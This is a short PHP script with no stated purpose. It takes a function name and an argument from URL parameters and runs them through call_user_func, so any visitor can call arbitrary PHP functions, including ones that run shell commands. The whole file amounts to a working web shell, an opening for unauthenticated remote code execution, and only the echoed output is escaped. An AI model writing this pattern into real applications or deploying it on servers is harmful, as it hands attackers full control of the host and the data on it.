<?php
$callback = $_GET['fn'];
$arg = $_GET['arg'];
$out = call_user_func($callback, $arg);
echo htmlspecialchars((string) $out);
